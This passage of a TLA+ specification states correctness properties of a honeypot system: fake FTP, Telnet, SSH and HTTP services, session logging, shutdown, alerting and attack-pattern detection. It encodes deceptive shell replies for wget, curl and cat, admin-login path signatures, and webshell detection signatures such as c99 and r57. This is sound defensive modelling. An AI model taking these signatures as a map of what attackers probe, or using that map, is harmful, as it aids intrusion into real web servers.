\* the reply to a command that is no table key and falls under no prefix rule
BashNotFound(command) ==
    <<98, 97, 115, 104, 58, 32>> \o Split1(command)[1] \o <<58, 32, 99, 111, 109, 109, 97, 110, 100, 32, 110, 111, 116, 32, 102, 111, 117, 110, 100, 10>>

\* the prefix rules of the reply, and the rule for everything else
PrefixReply(command) ==
    IF HasPrefix(command, <<99, 97, 116, 32>>) \/ HasPrefix(command, <<109, 111, 114, 101, 32>>) THEN <<80, 101, 114, 109, 105, 115, 115, 105, 111, 110, 32, 100, 101, 110, 105, 101, 100, 10>>
    ELSE IF HasPrefix(command, <<99, 100, 32>>) THEN <<>>
    ELSE IF HasPrefix(command, <<119, 103, 101, 116, 32>>) \/ HasPrefix(command, <<99, 117, 114, 108, 32>>) THEN <<67, 111, 109, 109, 97, 110, 100, 32, 110, 111, 116, 32, 102, 111, 117, 110, 100, 10>>
    ELSE BashNotFound(command)

\* C22 as stated: the reply to a command is the table entry when the command
\* exactly matches a table key; otherwise "Permission denied" for a "cat " or
\* "more " prefix, empty output for a "cd " prefix, "Command not found" for a
\* "wget " or "curl " prefix, and for every other command
\* "bash: <first token>: command not found".
C22_EveryOtherCommandNotFound ==
    \A i \in 1..Len(sh_replies) :
        LET command == sh_replies[i].command
        IN  sh_replies[i].response =
               IF IsTableKey(command)
               THEN (CHOOSE e \in FAKE_RESPONSES : e.key = command).value
               ELSE PrefixReply(command)

\* C22, amended: as stated, except that a command that is "exit" in any case
\* of its letters is answered "logout"; the prefixes are matched whatever the
\* case of their letters, the table keys exactly.
C22_FakeShellReply ==
    \A i \in 1..Len(sh_replies) :
        LET command == sh_replies[i].command
        IN  sh_replies[i].response =
               IF IsTableKey(command)
               THEN (CHOOSE e \in FAKE_RESPONSES : e.key = command).value
               ELSE IF HasPrefix(command, <<101, 120, 105, 116>>) /\ Len(command) = 4
               THEN <<108, 111, 103, 111, 117, 116, 10>>
               ELSE PrefixReply(command)

\* "EXIT" was answered "logout", "LS" (no table key) with the bash message
\* and "ls" with its table entry
C22_Witness ==
    /\ \E i \in 1..Len(sh_replies) :
          /\ sh_replies[i].command = <<69, 88, 73, 84>>
          /\ sh_replies[i].response = <<108, 111, 103, 111, 117, 116, 10>>
    /\ \E i \in 1..Len(sh_replies) :
          /\ sh_replies[i].command = <<76, 83>>
          /\ sh_replies[i].response = <<98, 97, 115, 104, 58, 32, 76, 83, 58, 32, 99, 111, 109, 109, 97, 110, 100, 32, 110, 111, 116, 32, 102, 111, 117, 110, 100, 10>>
    /\ \E i \in 1..Len(sh_replies) :
          /\ sh_replies[i].command = <<108, 115>>
          /\ IsTableKey(sh_replies[i].command)

(* Properties of the line framing of the SSH shell *)

\* the lines of a byte stream that are complete (a CR or LF follows them)
\* and not empty, in order; `line` is the line being collected
RECURSIVE CompleteLines(_, _)
CompleteLines(stream, line) ==
    IF stream = <<>> THEN <<>>
    ELSE IF Head(stream) \in {10, 13}
    THEN (IF line = <<>> THEN <<>> ELSE <<line>>) \o CompleteLines(Tail(stream), <<>>)
    ELSE CompleteLines(Tail(stream), Append(line, Head(stream)))

\* C23: in the SSH shell every non-empty line the peer submits produces
\* exactly one command entry holding that line alone, in arrival order,
\* however the bytes of the lines are split or combined into receive chunks:
\* once the handler has received every byte written, the commands of the
\* record are the non-empty complete lines of the stream.
C23_OneCommandPerLine ==
    sh_wire = <<>> => sh_session.commands = CompleteLines(sh_stream, <<>>)

(* Properties of sessions whose peer falls silent *)

FtpSilenceEnds == (ftp_pc = "loop") ~> (ftp_pc = "closed" /\ ftp_line.kind = "timeout")

TelSilenceEnds ==
    (tel_pc \in {"username", "password"}) ~> (tel_pc = "closed" /\ tel_line.kind = "timeout")

ShSilenceEnds == (sh_pc = "shell") ~> (sh_pc = "closed")

\* C24: no session blocks forever on attacker silence: if the peer keeps
\* the connection open and sends nothing more, the FTP command loop, the
\* Telnet prompts and the SSH shell phase each eventually reach Closed
\* through their read timeout.
C24_SilenceEndsEverySession == FtpSilenceEnds /\ TelSilenceEnds /\ ShSilenceEnds

\* ---------------------------------------------------------------------
\* The end of a session in the three socket honeypots
\* ---------------------------------------------------------------------

\* command.lower() in ["exit", "quit", "logout"]
TelExitCommands == {<<101, 120, 105, 116>>, <<113, 117, 105, 116>>, <<108, 111, 103, 111, 117, 116>>}

\* the commands one _handle_commands call stores, given the values its
\* _receive_line calls return: a falsy line ends the loop, a blank line is
\* skipped, an exit command is stored and ends the loop
RECURSIVE TelStoredCommands(_)
TelStoredCommands(lines) ==
    IF lines = <<>> THEN <<>>
    ELSE IF Falsy(Head(lines)) THEN <<>>
    ELSE LET command == Strip(Head(lines))
         IN  IF command = <<>> THEN TelStoredCommands(Tail(lines))
             ELSE IF Lower(command) \in TelExitCommands THEN <<[command |-> command]>>
             ELSE <<[command |-> command]>> \o TelStoredCommands(Tail(lines))

\* what the peer of an authenticated Telnet session makes _receive_line return
TelCommandRuns ==
    { <<None>>,
      <<<<108, 115>>, None>>,
      <<<<108, 115>>, <<69, 88, 73, 84>>, <<105, 100>>>>,
      <<<<32, 32>>, <<115, 104, 111, 119, 32, 118, 101, 114, 115, 105, 111, 110>>, None>>,
      <<<<114, 101, 98, 111, 111, 116>>, <<>>>> }

\* the command phase of an authenticated session, from its first prompt to
\* the finally block of _handle_connection
TelHandleCommands ==
    /\ tel_pc = "shell"
    /\ \E lines \in TelCommandRuns :
          /\ tel_pc' = "closed"
          /\ tel_session' = TelFinish([tel_session EXCEPT
                                          !.commands = @ \o TelStoredCommands(lines)])
    /\ UNCHANGED <<tel_attempts, tel_username, tel_wire, tel_buf, tel_out, tel_line, tel_reads,
                   tel_sent, tel_peer>>
    /\ UNCHANGED <<ftpVars, sshVars, restVars>>
    /\ TelLogEnd

\* the honeypots share no state: each behaviour follows one connection
FtpIdle == ftp_pc = "listening"
SshIdle == ssh_pc = "listening"
TelIdle == tel_pc = "listening"
ShIdle == sh_pc = "waiting"

SessionsNext ==
    \/ SshIdle /\ TelIdle /\ ShIdle /\ FtpVerbNext
    \/ FtpIdle /\ TelIdle /\ ShIdle /\ SshNext
    \/ FtpIdle /\ SshIdle /\ ShIdle /\ (TelNext \/ TelHandleCommands)
    \/ FtpIdle /\ SshIdle /\ TelIdle /\ ShNext

SpecSessions == Init /\ [][SessionsNext]_vars

\* the session_ended events of a handler at position pc whose record is
\* `session`: none while it runs, one once it has left, carrying the record
EndedOnce(pc, session, events) ==
    /\ Len(events) = (IF pc = "closed" THEN 1 ELSE 0)
    /\ pc = "closed" =>
          /\ session.end_time # None
          /\ events[1] = [event_type |-> "session_ended", session_data |-> session]

\* the attempts of the SSH record, as a reader of the event finds them
SshRecordedAttempts ==
    IF "auth_attempts" \in DOMAIN ssh_session THEN ssh_session.auth_attempts ELSE <<>>

SessionsEndedOnce ==
    /\ EndedOnce(ftp_pc, ftp_session, ftp_events)
    /\ EndedOnce(tel_pc, tel_session, tel_events)
    /\ EndedOnce(ssh_pc, ssh_session, ssh_events)
    /\ EndedOnce(sh_pc, sh_session, sh_events)
    /\ ssh_pc = "closed" => SshRecordedAttempts = ssh_auth_attempts
    /\ sh_pc = "closed" =>
          sh_session.commands = [i \in 1..Len(sh_replies) |-> sh_replies[i].command]

ClosedStays ==
    /\ ftp_pc = "closed" => ftp_pc' = "closed" /\ ftp_session' = ftp_session
    /\ tel_pc = "closed" => tel_pc' = "closed" /\ tel_session' = tel_session
    /\ ssh_pc = "closed" => ssh_pc' = "closed" /\ ssh_session' = ssh_session
    /\ sh_pc = "closed" => sh_pc' = "closed" /\ sh_session' = sh_session

\* C25: every SSH, Telnet and FTP session, whatever ends it (an exit command,
\* a timeout, the peer closing, an error), is closed once: end_time is set,
\* exactly one session_ended event is emitted, the event carries the session
\* record as it stands at that moment (with the SSH attempts the server
\* interface collected), and a closed session is never touched again
C25_ClosedExactlyOnce == []SessionsEndedOnce /\ [][ClosedStays]_vars

\* an SSH connection that made attempts has ended and its one event carries
\* them
C25_Witness ==
    /\ ssh_pc = "closed"
    /\ Len(ssh_auth_attempts) > 0
    /\ Len(ssh_events) = 1
    /\ ssh_events[1].session_data.auth_attempts = ssh_auth_attempts

(* Properties of concurrent connections to one listener *)

\* the command entries the lines read from one connection produce
RECURSIVE OwnCommands(_)
OwnCommands(lines) ==
    IF lines = <<>> THEN <<>>
    ELSE LET parts == Split1(Strip(Head(lines)))
         IN  IF parts = <<>> THEN OwnCommands(Tail(lines))
             ELSE <<[command  |-> Upper(parts[1]),
                     argument |-> IF Len(parts) > 1 THEN parts[2] ELSE <<>>]>>
                  \o OwnCommands(Tail(lines))

\* the lines the handler of connection c has read
OwnRead(c) == SubSeq(conn_sent[c], 1, conn_read[c])

\* the record of connection c holds what was read from connection c
OwnRecord(c) ==
    LET session == lis_sessions[c]
        own     == OwnCommands(OwnRead(c))
        passes  == SelectSeq(own, LAMBDA e : e.command = V_PASS)
        users   == {own[j].argument : j \in {k \in 1..Len(own) : own[k].command = V_USER}}
    IN  /\ session.commands = own
        /\ [i \in 1..Len(session.auth_attempts) |-> session.auth_attempts[i].password]
              = [i \in 1..Len(passes) |-> passes[i].argument]
        /\ \A i \in 1..Len(session.auth_attempts) :
              session.auth_attempts[i].username \in users \cup {None}
        /\ (session.end_time # None) <=> (conn_pc[c] = "closed")

SessionsIsolated ==
    /\ \A c \in Conns :
          /\ (c \in DOMAIN lis_sessions) <=> (conn_pc[c] \in {"loop", "closed"})
          /\ c \in DOMAIN lis_sessions => OwnRecord(c)
    /\ lis_pc \notin {"done", "failed"}

\* a record changes only in a step of its own handler, and a handler that
\* closes leaves the accept loop as it is
OnlyOwnHandlerWrites ==
    /\ \A c \in Conns :
          (c \in DOMAIN lis_sessions /\ conn_read'[c] = conn_read[c] /\ conn_pc'[c] = conn_pc[c])
             => (c \in DOMAIN lis_sessions' /\ lis_sessions'[c] = lis_sessions[c])
    /\ (\E c \in Conns : conn_pc[c] = "loop" /\ conn_pc'[c] = "closed")
          => UNCHANGED <<lis_pc, lis_running, lis_socket, lis_backlog>>

\* C26: under any interleaving of concurrent connections to one honeypot
\* each session record contains exactly the attempts and commands read from
\* its own connection and is written only by its own handler; an I/O error
\* or malformed input in one session closes that session only, the accept
\* loop keeps running and no other record changes.
C26_SessionsIsolated == []SessionsIsolated /\ [][OnlyOwnHandlerWrites]_vars

\* one session has failed after an attempt while the other, with commands
\* of its own, goes on and the listener waits in accept
C26_Witness ==
    /\ conn_pc[1] = "closed"
    /\ conn_pc[2] = "loop"
    /\ Len(lis_sessions[1].auth_attempts) > 0
    /\ Len(lis_sessions[2].commands) = 2
    /\ lis_sessions[1].commands # lis_sessions[2].commands
    /\ lis_pc = "accept"

(* Properties of stop() *)

\* no accept() is entered once stop() has cleared self.running, no handler
\* is spawned for a connection that arrived after stop() returned, and a
\* start() that has returned or raised has left the socket closed
StopSafe ==
    /\ lis_entered = 0
    /\ \A i \in 1..Len(lis_spawned) : lis_spawned[i] \notin lis_late
    /\ lis_pc \in {"done", "failed"} => lis_socket = "closed"

StopReturned == lis_stop = "done"

LoopLeft == lis_pc \in {"done", "failed"} /\ lis_socket = "closed"

\* C30: after stop() is called on a listener, at whatever point of its
\* start/accept cycle, the accept loop observes it within one accept timeout:
\* the wait in progress is the last one, the loop exits, no session is
\* spawned for a connection arriving after stop() returned, and the
\* listening socket ends up closed.
C30_StopObserved == []StopSafe /\ (StopReturned ~> LoopLeft)

\* stop() came while the loop waited in accept; a peer that connected
\* afterwards was refused, and start() has returned with sessions spawned
\* before
C30_Witness ==
    /\ lis_stop = "done"
    /\ lis_pc = "done"
    /\ lis_late # {}
    /\ lis_spawned # <<>>
    /\ \E c \in lis_late : conn_pc[c] = "refused"

(* Properties of the HTTP responses *)

\* the admin-login signatures: /admin, /wp-admin, /login, /phpmyadmin
LoginSignatures ==
    {<<47, 97, 100, 109, 105, 110>>,
     <<47, 119, 112, 45, 97, 100, 109, 105, 110>>,
     <<47, 108, 111, 103, 105, 110>>,
     <<47, 112, 104, 112, 109, 121, 97, 100, 109, 105, 110>>}

\* a stored request is a POST to a path matching an admin-login signature
IsLoginPost(r) ==
    /\ r.method = "POST"
    /\ \E sig \in LoginSignatures : Contains(Lower(r.path), sig)

\* what the form of a stored request submitted under a key ('' if nothing)
Submitted(r, key) == IF r.post_data[key] = None THEN <<>> ELSE r.post_data[key]

LoginPostsRejected ==
    /\ Len(http_responses) = Len(http_sessions)
    /\ \A i \in 1..Len(http_sessions) :
          IsLoginPost(http_sessions[i]) =>
             /\ http_responses[i].status = 401
             /\ http_responses[i].body.html = "ADMIN_PANEL_HTML"
             /\ http_responses[i].body.error = "Invalid credentials"
    /\ LET posts == SelectSeq(http_sessions, IsLoginPost)
       IN  /\ Len(http_logins) = Len(posts)
           /\ \A k \in 1..Len(posts) :
                 /\ http_logins[k].success = FALSE
                 /\ http_logins[k].path = posts[k].path
                 /\ http_logins[k].username = Submitted(posts[k], "username")
                 /\ http_logins[k].password = Submitted(posts[k], "password")

RuleStatus(r) ==
    IF \E sig \in LoginSignatures : Contains(Lower(r.path), sig)
    THEN (IF r.method = "POST" THEN 401 ELSE 200)
    ELSE IF AnyIn(config_patterns, Lower(r.path)) THEN 403
    ELSE IF AnyIn(shell_patterns, Lower(r.path)) THEN 404
    ELSE 200

\* C28: the response status follows the ordered rule admin-login path ->
\* login form, else config-exposure signature -> 403, else webshell
\* signature (.php, shell, c99, r57, webshell) -> 404, else 200, the
\* signatures being the ones attack detection uses: a request whose path
\* matches a webshell signature and neither of the other two gets 404.
C28_StatusFollowsDetectionSignatures ==
    \A i \in 1..Len(http_responses) : http_responses[i].status = RuleStatus(http_sessions[i])

(* Properties of pattern detection over bad records *)

\* C29: pattern detection never fails on bad records: for session data
\* whose attempts have a missing or unparseable timestamp (or a missing
\* username or password) analyze_session and detect_distributed_attack
\* return normally, skipping the offending record.
C29_DetectionReturnsNormally ==
    /\ pd_result.kind # "raised"
    /\ pd_found.kind # "raised"

(* Properties of ServiceManager.run *)

\* C31: listener accept loops run independently per protocol: after
\* start_all with several services enabled, every enabled service's
\* listener eventually binds and accepts connections (or fails to bind by
\* itself), whatever the other listeners are doing.
C31_EveryListenerStarts ==
    \A name \in Services : <>(sm_task[name] \in {"serving", "failed"})

ShutdownComplete ==
    /\ sm_shutdown
    /\ sm_monitor # "running"
    /\ sm_run = "done"
    /\ \A name \in Services : ~sm_status[name].running

\* C32: once SIGTERM or SIGINT is delivered to a running run(),
\* shutdown_requested becomes true, monitoring is cancelled and stop_all
\* eventually completes with every service's status.running False.
C32_GracefulShutdown == (sm_signal = "pending") ~> ShutdownComplete

\* C33: while shutdown has not been requested, a service whose task has
\* finished while its status.running is True is eventually restarted by
\* monitor_services: it is stopped and started again, after which its
\* status.running is True and it has a new task (as long as the limit on the
\* number of restarts followed here is not reached).
C33_FinishedServiceRestarted ==
    \A name \in Services :
        (sm_status[name].running /\ sm_task[name] = "failed" /\ ~sm_shutdown)
           ~> \/ sm_shutdown
              \/ sm_restarts = MaxRestarts
              \/ sm_status[name].running /\ sm_task[name] = "pending"

-----------------------------------------------------------------------------
(* The batch processor *)

BpNext ==
    \/ \E t \in BpAdders : BpAddCall(t)
    \/ \E t \in BpAdders : BpAddLocked(t)
    \/ BpPeriodicWake
    \/ \E t \in BpTasks : BpFlushLocked(t)
    \/ BpTick

\* every coroutine that can run is run by the event loop
SpecBatch ==
    /\ Init /\ [][BpNext]_vars
    /\ \A t \in BpAdders : WF_vars(BpAddLocked(t))
    /\ \A t \in BpTasks : WF_vars(BpFlushLocked(t))

\* C34: an add() call that finds the batch full or stale (it is at its
\* await of flush()) completes, and when it has completed the buffer is
\* empty and the callback has received the buffered entries in insertion
\* order.
C34_AddFlushes ==
    \A t \in BpAdders :
        (bp_pc[t] = "flush") ~> (bp_pc[t] = "idle" /\ bp_buffer = <<>> /\ bp_batches # <<>>)

-----------------------------------------------------------------------------
(* Reconnaissance findings *)

\* the command, lower-cased, has an entry of the vocabulary somewhere in it
IsReconCommand(command) ==
    \E r \in recon_commands :
        \E i \in 1..Len(command) :
            /\ i + Len(r) - 1 <= Len(command)
            /\ \A k \in 1..Len(r) : LowerChar(command[i + k - 1]) = r[k]

ReconCount(commands) ==
    Cardinality({i \in 1..Len(commands) : IsReconCommand(commands[i].command)})

ReconFindings(patterns) ==
    {i \in 1..Len(patterns) : patterns[i].pattern_type = "reconnaissance"}

\* C35: analyze_session yields a reconnaissance finding exactly when at
\* least 3 commands of the session contain an entry of the recon vocabulary
\* (case-insensitively, as a substring); the finding is of severity medium,
\* its occurrence_count is the number of matching commands and its
\* confidence_score is min(100, 10 x matching commands).
C35_ReconnaissanceFromThree ==
    pd_pc = "analyzed" =>
        LET n     == ReconCount(pd_session.commands)
            found == ReconFindings(pd_result.patterns)
        IN  /\ pd_result.kind = "returned"
            /\ Cardinality(found) = (IF n >= 3 THEN 1 ELSE 0)
            /\ \A i \in found :
                  /\ pd_result.patterns[i].severity = "medium"
                  /\ pd_result.patterns[i].occurrence_count = n
                  /\ pd_result.patterns[i].confidence_score
                        = Ratio(IF 10 * n > 100 THEN 100 ELSE 10 * n, 1)

\* a session of eleven matching commands among more has been analysed: the
\* finding counts eleven and its confidence is 100
C35_Witness ==
    /\ pd_pc = "analyzed"
    /\ ReconCount(pd_session.commands) = 11
    /\ Len(pd_session.commands) > 11
    /\ ReconFindings(pd_result.patterns) # {}

\* a session with exactly two matching commands among four has been analysed
C35_WitnessBelow ==
    /\ pd_pc = "analyzed"
    /\ ReconCount(pd_session.commands) = 2
    /\ Len(pd_session.commands) = 4
    /\ ReconFindings(pd_result.patterns) = {}

-----------------------------------------------------------------------------
(* Concurrent analyses *)

PdcNext ==
    \/ \E c \in Analyses : PdcCall(c)
    \/ \E c \in Analyses : PdcBruteForce(c)
    \/ \E c \in Analyses : PdcCredentialStuffing(c)
    \/ \E c \in Analyses : PdcReconnaissance(c)
    \/ \E c \in Analyses : PdcAutomatedTools(c)
    \/ \E c \in Analyses : PdcReturn(c)
    \/ \E c \in Analyses : PdcNextSession(c)

SpecAnalyses == Init /\ [][PdcNext]_vars

\* C36: under any interleaving of analyze_session calls on one detector, the
\* shared maps ip_activity, credential_usage and command_sequences are
\* accessed by no two calls at once (no call touches them: they stay as
\* __init__ left them), and each call returns the findings it returns when
\* it runs alone.
C36_ConcurrentAnalysesIndependent ==
    /\ pdc_maps = [ip_activity |-> <<>>, credential_usage |-> <<>>, command_sequences |-> <<>>]
    /\ \A c \in Analyses :
          pdc_pc[c] = "returned" => pdc_result[c] = analyze_session(pdc_session[c])

\* two calls that ran interleaved have returned different, non-empty findings
C36_Witness ==
    \E c1, c2 \in Analyses :
        /\ c1 # c2
        /\ pdc_pc[c1] = "returned" /\ pdc_pc[c2] = "returned"
        /\ pdc_overlapped[c1] /\ pdc_overlapped[c2]
        /\ pdc_result[c1].patterns # <<>>
        /\ pdc_result[c2].patterns # <<>>
        /\ pdc_result[c1].patterns # pdc_result[c2].patterns

-----------------------------------------------------------------------------
(* The session records of FTP and Telnet *)

RecordsNext ==
    \/ TelIdle /\ FtpVerbNext
    \/ FtpIdle /\ (TelNext \/ TelHandleCommands)

SpecRecords == Init /\ [][RecordsNext]_vars

\* `new` is `old` with entries added at the end, if any
Extends(old, new) ==
    /\ Len(new) >= Len(old)
    /\ \A i \in 1..Len(old) : new[i] = old[i]

\* one step on a session record
RecordStep(old, new) ==
    /\ Extends(old.auth_attempts, new.auth_attempts)
    /\ Extends(old.commands, new.commands)
    /\ old.end_time # None => new = old

\* C37: every step of an FTP or Telnet session leaves the entries of
\* auth_attempts and commands as they are and at most appends at the end,
\* and a record whose end_time is set is not modified again.
C37_RecordsAppendOnly ==
    [][RecordStep(ftp_session, ftp_session') /\ RecordStep(tel_session, tel_session')]_vars

\* an FTP record with two commands and an attempt has ended
C37_Witness ==
    /\ ftp_pc = "closed"
    /\ ftp_session.end_time # None
    /\ Len(ftp_session.commands) >= 2
    /\ Len(ftp_session.auth_attempts) >= 1

\* a Telnet record with two attempts has ended
C37_WitnessTelnet ==
    /\ tel_pc = "closed"
    /\ tel_session.end_time # None
    /\ Len(tel_session.auth_attempts) >= 2

-----------------------------------------------------------------------------
(* The alert manager *)

AmNext ==
    \/ AmTick
    \/ AmEvaluateRules

SpecAlertManager == Init /\ [][AmNext]_vars

\* the calls before the k-th in which the rule produced an alert less than
\* cooldown_seconds before the k-th
InCooldown(rule, k) ==
    \E i \in 1..(k - 1) :
        /\ rule \in am_evals[i].fired_alerts
        /\ am_evals[k].at - am_evals[i].at < cooldown_seconds

\* C38: across evaluate_rules calls a rule whose condition is true produces
\* an alert exactly when it has produced none in the cooldown_seconds before:
\* none during the cooldown even with the condition true, one again once the
\* cooldown has passed; a rule whose condition is false produces none.
C38_OneAlertPerCooldown ==
    \A rule \in AmRules :
        \A k \in 1..Len(am_evals) :
            rule \in am_evals[k].fired_alerts
                <=> (am_evals[k].conditions[rule] /\ ~InCooldown(rule, k))

\* a rule whose condition stayed true produced an alert, none one second
\* later, and one again when cooldown_seconds had passed
C38_Witness ==
    \E rule \in AmRules :
        \E i, j, k \in 1..Len(am_evals) :
            /\ i < j /\ j < k
            /\ am_evals[j].at > am_evals[i].at
            /\ am_evals[j].at - am_evals[i].at < cooldown_seconds
            /\ am_evals[k].at - am_evals[i].at = cooldown_seconds
            /\ am_evals[i].conditions[rule] /\ am_evals[j].conditions[rule]
            /\ am_evals[k].conditions[rule]
            /\ rule \in am_evals[i].fired_alerts
            /\ rule \notin am_evals[j].fired_alerts
            /\ rule \in am_evals[k].fired_alerts

-----------------------------------------------------------------------------
(* The Telnet line reader and back-to-back lines *)

\* the peer has typed "root" on every line
OnlyRootSent ==
    /\ ~Flooded
    /\ \A i \in 1..Len(tel_sent) : tel_sent[i] = <<114, 111, 111, 116>>

\* C39: the Telnet line reader takes no byte of the following line: whether
\* the peer's lines arrive one by one or back to back, every line
\* _receive_line returns, and so every recorded username and password, is
\* the line the peer sent.
C39_TelnetLinesIntact ==
    OnlyRootSent =>
        /\ tel_line.kind = "line" => tel_line.value = <<114, 111, 111, 116>>
        /\ \A j \in 1..Len(tel_session.auth_attempts) :
              /\ tel_session.auth_attempts[j].username = <<114, 111, 111, 116>>
              /\ tel_session.auth_attempts[j].password = <<114, 111, 111, 116>>

-----------------------------------------------------------------------------
(* The enricher under threads *)

EncNext ==
    \/ EncTick
    \/ \E t \in EncThreads : EncCheckWindow(t)
    \/ \E t \in EncThreads : EncTestLimit(t)
    \/ \E t \in EncThreads : EncLoadCount(t)
    \/ \E t \in EncThreads : EncStoreCount(t)
    \/ \E t \in EncThreads : EncEnrichImpl(t)

SpecEnricherThreads == Init /\ [][EncNext]_vars

\* C40: with enrich called from several threads on one enricher, the number
\* of _enrich_impl invocations made within one 60-second window never
\* exceeds rate_limit.
C40_RateLimitUnderThreads ==
    \A w \in EncWindows : enc_admitted[w] <= rate_limit

====
